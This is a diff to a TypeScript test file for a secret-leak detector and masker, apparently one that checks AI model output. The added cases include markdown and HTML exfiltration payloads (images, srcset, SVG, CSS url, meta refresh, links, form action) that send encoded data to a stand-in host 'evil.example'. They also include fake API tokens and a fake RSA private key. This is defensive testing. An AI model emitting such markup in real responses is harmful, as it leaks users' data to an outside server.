@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { createEngine } from '../engine.ts';
-import { inspectOutputText } from '../inspect-text.ts';
+import { inspectOutputText, inspectText } from '../inspect-text.ts';
 import { maskHits } from '../judge.ts';
 import { loadModels } from '../model/load-models.ts';
 import { defaultPolicy, type Policy } from '../policy/settings.ts';
@@ -28,6 +28,14 @@ const leaks: readonly (readonly [string, string, RegExp])[] = [
   ['an image with a long text', `See ![${alt}](${evil}/?d=${data}) there`, /bGlzdGVu/],
   ['a link with a long text', `See [${alt}](${evil}/?d=${data}) there`, /bGlzdGVu/],
   ['an image of HTML with other attributes', `<img alt="${alt}" src="${evil}/?d=${data}">`, /bGlzdGVu/],
+  ['an image without a scheme', `See ![x](//evil.example/?d=${data}) there`, /bGlzdGVu/],
+  ['a set of images', `<img srcset="${evil}/?d=${data} 2x">`, /bGlzdGVu/],
+  ['an image of SVG', `<svg><image href='${evil}/?d=${data}'/></svg>`, /bGlzdGVu/],
+  ['a style', `<p style="background:url(${evil}/?d=${data})">x</p>`, /bGlzdGVu/],
+  ['a page that leads away', `<meta http-equiv=refresh content="0;url=${evil}/?d=${data}">`, /bGlzdGVu/],
+  ['a link of HTML', `<a class="${alt}" href="${evil}/?d=${data}">x</a>`, /bGlzdGVu/],
+  ['a form', `<form action=${evil}/?d=${data}><input name=x></form>`, /bGlzdGVu/],
+  ['a token without a digit', 'Here: glpat-abcdefghijKLMNOPqrstuv, keep it', /KLMNOPqr/],
   ['letters alone', `See ![${alt}](${evil}/?d=${'secretwords'.repeat(6)}) there`, /secretwordssecret/],
   ['a key', `The key is sk-${'A1b2'.repeat(12)}, keep it`, /A1b2A1b2/],
   ['an address of mail', 'Write to ann.example@mail.example.org today', /ann\.example@/],
@@ -73,6 +81,31 @@ describe('masking', () => {
       ({ kind: 'secret', type: 'key', score: 1, start, end, reason: '' }) as const;
     expect(maskHits('0123456789', [hit(2, 5), hit(4, 8)])).toBe('01[KEY]89');
     expect(maskHits('0123456789', [hit(2, 8), hit(3, 5)])).toBe('01[KEY]89');
+  });
+});
+
+const mails = (count: number) => Array.from({ length: count }, (_, n) => `ann${n}@example.org`).join(' and ');
+
+describe('a long text', () => {
+  it.each([
+    ['at once', 2000],
+    ['in slices', 9000],
+    ['past what is told one by one', 60_000],
+  ])('is masked to its end, judged %s', async (_how, count) => {
+    const text = `${mails(count)}, that is all`;
+    const masked = maskHits(text, await inspectText(engine, text));
+    expect(/.{0,40}ann\d/.exec(masked)?.[0]).toBeUndefined();
+    expect(masked.startsWith('[EMAIL] and [EMAIL]')).toBe(true);
+  });
+
+  it('is masked where a private key lies across the border of two slices', async () => {
+    const body = 'MIIEpAIBAAKCAQEAx7Qf/Zk2\n'.repeat(130);
+    const key = `-----BEGIN RSA PRIVATE KEY-----\n${body}-----END RSA PRIVATE KEY-----`;
+    for (const before of [62_600, 63_800, 65_000]) {
+      const text = `${'The sea is blue. '.repeat(5000).slice(0, before)}\n${key}\n${'It has waves. '.repeat(500)}`;
+      const masked = maskHits(text, await inspectText(engine, text));
+      expect(/.{0,40}(?:MIIEp|Zk2)/.exec(masked)?.[0], String(before)).toBeUndefined();
+    }
   });
 });
 
